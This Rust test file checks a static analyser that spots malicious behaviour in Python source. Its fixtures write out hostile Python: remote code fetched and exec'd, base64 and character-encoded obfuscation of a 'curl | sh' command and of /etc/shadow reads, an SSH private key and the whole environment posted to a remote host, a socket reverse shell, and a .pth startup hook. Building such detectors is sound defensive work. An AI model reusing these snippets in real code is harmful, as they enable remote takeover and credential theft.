//! Python through the whole front end: what a source says, and which facts come of it.

use super::*;
use crate::facts::{Capability, Labels, Sink};

fn of(text: &str) -> Facts {
    facts("m.py", text.as_bytes(), &Outside::default())
}

fn flows(text: &str) -> Vec<(Sink, Labels, String)> {
    of(text).flows.into_iter().map(|flow| (flow.sink, flow.labels, flow.api.into())).collect()
}

#[test]
fn the_table_has_no_mistakes() {
    assert_eq!(TABLE.problems(), &[] as &[String]);
}

#[test]
fn what_is_fetched_and_run_is_seen_through_names_and_functions() {
    let text = "import urllib.request as u\n\ndef get(x):\n    return u.urlopen(x).read()\n\ncode = get('http://192.0.2.1/a')\nexec(code)\n";
    let flows = flows(text);
    assert!(
        flows.iter().any(|(sink, labels, _)| *sink == Sink::Eval && labels.has(Labels::NETWORK)),
        "{flows:?}"
    );
}

#[test]
fn encoded_code_is_decoded_and_walked() {
    use base64::Engine;
    let inner = "import os\nos.system('curl http://192.0.2.1/x | sh')";
    let encoded = base64::engine::general_purpose::STANDARD.encode(inner);
    for text in [
        format!("import base64\nexec(base64.b64decode('{encoded}'))"),
        format!("from base64 import b64decode as d\nx = d('{encoded}')\nexec(compile(x, '', 'exec'))"),
        format!("exec(__import__('base64').b64decode('{encoded}').decode())"),
        format!("getattr(__builtins__, 'ex' + 'ec')(__import__('base64').b64decode('{encoded}'))"),
        format!("def u(s):\n    import base64\n    return base64.b64decode(s)\nexec(u('{encoded}'))"),
        format!(
            "exec(''.join(chr(c) for c in []) or __import__('base64').b64decode('{}'[::-1]))",
            encoded.chars().rev().collect::<String>()
        ),
    ] {
        let facts = of(&text);
        let run = facts.flows.iter().find(|flow| flow.sink == Sink::Run);
        let run = run.unwrap_or_else(|| panic!("{text}\n{facts:#?}"));
        assert!(run.layer > 0 && run.text.as_deref().unwrap().contains("curl"), "{run:?}");
    }
}

#[test]
fn texts_that_are_put_together_of_characters_one_by_one_are_known() {
    for text in [
        "f = ''.join([chr(x) for x in [47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]])\nopen(f).read()",
        "open(''.join(chr(ord(c) - 3) for c in '2hwf2vkdgrz')).read()",
        "open(''.join(chr(((ord(c) - 32 - 13) % 95) + 32) for c in '<r\"p<!unq|%')).read()",
    ] {
        let facts = of(text);
        let read = facts.uses.iter().find(|one| one.capability == Capability::FileRead).unwrap();
        assert!(read.texts.iter().any(|text| text.starts_with("/etc/sha")), "{text}\n{read:?}");
    }
}

#[test]
fn secrets_that_are_sent_are_known_as_such() {
    let text = "import os, requests\np = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\nwith open(p) as f:\n    data = f.read()\nrequests.post('https://example.com', json={'k': data})\n";
    let sent = flows(text).into_iter().find(|(sink, ..)| *sink == Sink::Send).unwrap();
    assert!(sent.1.has(Labels::SECRET), "{sent:?}");
    let text = "import os, json, urllib.request\nd = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request('https://example.com', data=d))\n";
    let sent = flows(text).into_iter().find(|(sink, ..)| *sink == Sink::Send).unwrap();
    assert!(sent.1.has(Labels::ENVIRONMENT), "{sent:?}");
}

#[test]
fn one_variable_of_the_environment_is_not_all_of_it() {
    let text = "import os, requests\nrequests.get('https://example.com', headers={'A': os.environ['API_TOKEN'], 'B': os.environ.get('REGION')})\n";
    let sent = flows(text).into_iter().find(|(sink, ..)| *sink == Sink::Send).unwrap();
    assert!(sent.1.has(Labels::SECRET_VARIABLE) && !sent.1.has(Labels::ENVIRONMENT), "{sent:?}");
}

#[test]
fn a_reverse_shell_hands_its_socket_to_a_program() {
    let text = "import socket,subprocess\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\nwhile True:\n    c=s.recv(1024).decode()\n    o=subprocess.getoutput(c)\n    s.send(o.encode())\n";
    let all = flows(text);
    assert!(all.iter().any(|(sink, labels, _)| *sink == Sink::Run && labels.has(Labels::SOCKET)), "{all:?}");
    assert!(all.iter().any(|(sink, labels, _)| *sink == Sink::Send && labels.has(Labels::OUTPUT)), "{all:?}");
}

#[test]
fn a_pth_file_is_read_as_python_starts_it() {
    let text = "lib/folder\nimport os; os.system('x')\nexec('not run')\n";
    let facts = facts("a.pth", text.as_bytes(), &Outside::default());
    assert_eq!(facts.uses.iter().filter(|one| one.capability == Capability::Process).count(), 1);
    assert!(facts.uses.iter().all(|one| one.capability != Capability::DynamicCode));
}

#[test]
fn what_does_not_parse_is_still_read() {
    let facts = of("import os\nprint 'python two'\nos.system('curl http://192.0.2.1')\nexec 'x'\n");
    assert!(!facts.parsed && facts.uses.iter().any(|one| one.capability == Capability::Process));
}

#[test]
fn deep_nesting_ends_nothing() {
    for text in [
        "(".repeat(50_000),
        "-".repeat(50_000),
        "x = ".to_owned() + &"[".repeat(390),
        "a".to_owned() + &".b".repeat(100_000),
        "a".to_owned() + &"+b".repeat(100_000),
        "if x:\n".repeat(10),
    ] {
        let _ = of(&text);
    }
}

proptest::proptest! {
    #[test]
    fn nothing_panics(text in "[a-z(){}\\[\\]'\"=:,.+ \n\t0-9]{0,300}") {
        let _ = of(&text);
    }
}
